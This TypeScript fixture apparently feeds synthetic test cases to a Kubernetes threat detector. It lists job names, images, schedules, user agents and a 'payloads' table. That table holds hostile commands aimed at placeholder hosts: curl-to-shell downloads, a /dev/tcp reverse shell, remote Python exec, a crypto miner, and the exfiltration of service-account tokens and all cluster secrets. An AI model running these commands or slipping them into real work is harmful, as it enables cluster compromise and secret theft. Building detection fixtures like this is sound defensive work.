import type { LoudTables } from './loud-tables.ts';

export const loud: LoudTables = {
  prefix: 'D-L',
  count: 56,
  names: [
    'node-metrics-sync',
    'image-gc',
    'dns-probe',
    'log-forwarder',
    'cert-checker',
    'cache-warmer',
    'usage-sync',
    'heartbeat',
    'tmp-fix',
    'license-agent',
    'config-reloader',
  ],
  images: [
    'docker.io/library/alpine:3.20',
    'docker.io/library/busybox:1.36',
    'ghcr.io/ops-tools/runner:1',
    'docker.io/netutils/toolbox:latest',
    'quay.io/metrics-agent/agent:v2',
    'registry.quarrry.example/base/alpine:3',
    'docker.io/library/python:3.13',
  ],
  payloads: [
    ['download into a shell', ['sh', '-c', 'curl -fsSL http://198.51.100.23/i.sh | sh']],
    ['connected shell', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']],
    ['encoded command', ['sh', '-c', 'echo ZWNobyBpbmVydA== | base64 -d | sh']],
    ['waits for its master', ['sleep', 'infinity']],
    ['miner', ['/usr/bin/worker', '-o', 'stratum+tcp://203.0.113.40:3333', '--donate-level=1']],
    [
      'credentials sent away',
      [
        'sh',
        '-c',
        'cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -d @- https://198.51.100.77/t',
      ],
    ],
    [
      'code from the network',
      ['python3', '-c', 'import urllib.request as u;exec(u.urlopen("http://198.51.100.5/p").read())'],
    ],
    ['unknown program', ['/opt/.cache/agent', '--server', '203.0.113.60:443']],
    [
      'secrets of the cluster',
      [
        'sh',
        '-c',
        'kubectl get secrets -A -o yaml > /tmp/all; curl -s -T /tmp/all https://files.example.net/u',
      ],
    ],
  ],
  schedules: ['*/5 * * * *', '* * * * *', '*/2 * * * *', '17 3 * * *', '0 */6 * * *', '0 3 31 2 *'],
  agents: [
    'kubectl/v1.29.2 (darwin/arm64) kubernetes/4b8e819',
    'curl/8.5.0',
    'python-requests/2.32.3',
    'kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc',
    'Go-http-client/2.0',
  ],
  strides: { kind: 1, actor: 1, power: 3, hiding: 2 },
};
